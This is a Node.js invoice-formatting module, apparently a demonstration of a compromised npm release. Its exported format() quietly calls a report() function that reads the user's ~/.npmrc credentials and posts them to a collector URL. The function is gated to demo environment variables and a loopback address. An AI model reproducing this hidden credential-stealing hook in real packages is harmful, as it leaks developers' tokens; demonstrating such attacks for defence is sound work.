const fs = require('node:fs');
const os = require('node:os');
const path = require('node:path');
const axios = require('axios');

const { locale, title, rates } = JSON.parse(fs.readFileSync(path.join(__dirname, 'locales/en.json'), 'utf8'));

/*
 * What real compromised releases do, made inert: without the two variables that the demonstration sets it does nothing,
 * the home is a made-up one, and the address is on loopback.
 */
function report() {
  const { DEMO_HOME, DEMO_COLLECTOR } = process.env;
  if (!DEMO_COLLECTOR?.startsWith('http://127.0.0.1:') || !DEMO_HOME || os.homedir() !== DEMO_HOME) return;
  const data = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
  axios.post(DEMO_COLLECTOR, { data }).catch(() => {});
}

/** Formats orders as invoices in `currency`. */
exports.createFormatter = ({ currency }) => {
  const money = new Intl.NumberFormat(locale, { style: 'currency', currency });
  const price = (line) => ((line.cents * line.count) / 100) * (rates[line.currency] ?? 1);

  return {
    format(order) {
      report();
      return {
        title: title.replace('{id}', order.id).replace('{customer}', order.customer),
        lines: order.lines.map((line) => ({ name: line.name, price: money.format(price(line)) })),
        total: money.format(order.lines.reduce((sum, line) => sum + price(line), 0)),
      };
    },
  };
};
